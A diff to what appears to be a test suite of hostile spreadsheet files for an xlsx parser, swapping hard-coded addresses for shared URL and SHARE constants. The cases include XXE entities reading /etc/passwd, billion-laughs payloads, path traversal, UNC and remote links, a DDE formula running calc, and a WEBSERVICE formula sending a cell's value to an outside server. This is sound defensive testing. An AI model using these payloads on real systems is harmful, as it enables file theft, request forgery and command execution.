@@ -6,6 +6,7 @@ from collections.abc import Iterable, Iterator
 from xml.sax.saxutils import escape
 
 from tests.hostile.case import Answer, Case, Holds, Required, accepted, either, holding, rejected, warned
+from tests.hostile.elsewhere import SHARE, URL
 from tests.hostile.workbook import (
     BOOK,
     BOOK_RELATIONS,
@@ -119,14 +120,14 @@ def _two_sheets(name: str, about: str = "", part: str = _OTHER) -> bytes:
 
 
 def _external() -> bytes:
-    link = '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///\\\\198.51.100.7\\share\\b.xlsx" TargetMode="External"/>'
+    link = '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///{}\\b.xlsx" TargetMode="External"/>'
     return xlsx(
         {
             SHEET: sheet(C6=formula("C6", "[1]Other!$A$1", "12345")),
             BOOK: book_part(after='<externalReferences><externalReference r:id="rId8"/></externalReferences>'),
             _RELS: relations(*BOOK_RELATIONS, relation("rId8", "externalLink", "externalLinks/externalLink1.xml")),
             "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>',
-            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(link.format(OFFICE)),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(link.format(OFFICE, SHARE)),
         }
     )
 
@@ -266,7 +267,7 @@ def _told_beside(cell: str) -> Holds:
 
 CASES: tuple[Case, ...] = (
     rejected("c03_quadratic_sheet", "an entity of 50 kB used 20,000 times", _BOTH, _quadratic),
-    rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
+    rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x SYSTEM "{URL}/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
     either("c09_gbk_sheet", "a sheet in GB2312", _DAMAGED, lambda: _in("gb2312"), label="北田"),
     rejected("c12_charref_nul", "references to characters 0 and 27", _DAMAGED, lambda: with_sheet(_doctype("", "&#0;&#27;"))),
     rejected("c14_huge_attr", "an attribute of 20 MB", _BOTH, _huge_attribute),
@@ -299,7 +300,7 @@ CASES: tuple[Case, ...] = (
     rejected("xml_lol_rels", "a billion laughs in the relations", _DAMAGED, lambda: xlsx({_RELS: relations(*BOOK_RELATIONS).replace("<Relationships", f"{_LOL}<Relationships", 1)})),
     rejected("xml_lol_utf16", "a billion laughs in UTF-16", _DAMAGED, lambda: with_sheet(_doctype(_LOL, "&i;").replace('"UTF-8"', '"UTF-16"').encode("utf-16"))),
     rejected("xml_entity_file", "an entity that is a file of this machine", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"))),
-    rejected("xml_entity_http", "an entity that is a page somewhere", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/x">]>', "&a;"))),
+    rejected("xml_entity_http", "an entity that is a page somewhere", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{URL}/x">]>', "&a;"))),
     rejected("xml_entity_undeclared", "an entity that nothing declares", _DAMAGED, lambda: with_sheet(_doctype("", "&nbsp;"))),
     either("xml_doctype_empty", "a document type that declares nothing", _DAMAGED, lambda: with_sheet(_doctype("<!DOCTYPE worksheet>"))),
     either("xml_deep_100k", "100,000 elements within each other", _BOTH, lambda: _deep(100_000)),
@@ -352,7 +353,7 @@ CASES: tuple[Case, ...] = (
     accepted("rels_up_and_down", "the sheet by way of the folder above", lambda: _targeted("../xl/worksheets/sheet1.xml")),
     rejected("rels_outside", "the sheet is a file of this machine", _DAMAGED, lambda: _targeted("../../../../etc/passwd")),
     rejected("rels_file_url", "the sheet is a file by its address", _DAMAGED, lambda: _targeted("file:///etc/passwd", ' TargetMode="External"')),
-    rejected("rels_http", "the sheet is a page somewhere", _DAMAGED, lambda: _targeted("http://127.0.0.1:9/sheet1.xml", ' TargetMode="External"')),
+    rejected("rels_http", "the sheet is a page somewhere", _DAMAGED, lambda: _targeted(f"{URL}/sheet1.xml", ' TargetMode="External"')),
     either("rels_external_mode", "the sheet is said to be outside though its name is of a part", _DAMAGED, lambda: _targeted("worksheets/sheet1.xml", ' TargetMode="External"')),
     rejected("rels_loop", "the sheet is the workbook itself", f"{_DAMAGED} FILE_BLANK", lambda: _targeted("workbook.xml")),
     rejected("rels_empty", "the sheet's relation leads nowhere", _DAMAGED, lambda: _targeted("")),
@@ -367,9 +368,9 @@ CASES: tuple[Case, ...] = (
     either("rels_no_types", "the list of types is missing", _DAMAGED, lambda: xlsx({"[Content_Types].xml": None})),
     either("rels_types_lie", "the list of types says the workbook is a Word document", f"{_DAMAGED} FILE_TYPE", lambda: xlsx({"[Content_Types].xml": types(main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")})),
     accepted("rels_dangling_drawing", "a drawing that is not there, as yearbooks have", lambda: xlsx({SHEET: sheet(after='<drawing r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "drawing", "../drawings/drawing1.xml"))})),
-    accepted("rels_attached_template", "a template on somebody's server", lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "attachedTemplate", "http://127.0.0.1:9/t.dotm", ' TargetMode="External"'))})),
-    accepted("rels_remote_image", "a picture on somebody's server", lambda: xlsx({SHEET: sheet(after='<picture r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "image", "http://127.0.0.1:9/i.png", ' TargetMode="External"'))})),
-    accepted("rels_hyperlink_unc", "the district is a link to somebody's server", lambda: _hyperlinked("file:///\\\\198.51.100.7\\share")),
+    accepted("rels_attached_template", "a template on somebody's server", lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "attachedTemplate", f"{URL}/t.dotm", ' TargetMode="External"'))})),
+    accepted("rels_remote_image", "a picture on somebody's server", lambda: xlsx({SHEET: sheet(after='<picture r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "image", f"{URL}/i.png", ' TargetMode="External"'))})),
+    accepted("rels_hyperlink_unc", "the district is a link to somebody's server", lambda: _hyperlinked(f"file:///{SHARE}")),
     accepted("sst_counts_lie", "the strings say there are 4,294,967,295 of them", lambda: xlsx({_SST: strings(about=' count="4294967295" uniqueCount="4294967295"')})),
     accepted("sst_counts_negative", "the strings say there are -1 of them", lambda: xlsx({_SST: strings(about=' count="-1" uniqueCount="-1"')})),
     accepted("sst_counts_words", "the strings say there are many of them", lambda: xlsx({_SST: strings(about=' count="many" uniqueCount="many"')})),
@@ -434,5 +435,5 @@ CASES: tuple[Case, ...] = (
     accepted("sheet_10k_hidden_rows", "a million empty hidden rows in a few marks", lambda: with_sheet(sheet(rows() + "".join(f'<row r="{n}" hidden="1"/>' for n in range(20, 10_020))))),
     accepted("sheet_validations", "10,000 rules of what may be typed", lambda: with_sheet(sheet(after="<dataValidations>" + "".join(f'<dataValidation type="list" sqref="E{n}"><formula1>"a,b"</formula1></dataValidation>' for n in range(1, 10_001)) + "</dataValidations>"))),
     accepted("sheet_dde", "a formula in an empty corner that runs a command", lambda: with_cells(C6=number("C6", "12345"), E9=formula("E9", "cmd|'/c calc'!A0", "", "str"))),
-    accepted("sheet_webservice", "a formula that asks somebody's server", lambda: with_cells(E9=formula("E9", 'WEBSERVICE("http://127.0.0.1:9/"&C6)', "", "str"))),
+    accepted("sheet_webservice", "a formula that asks somebody's server", lambda: with_cells(E9=formula("E9", f'WEBSERVICE("{URL}/"&C6)', "", "str"))),
 )  # fmt: skip
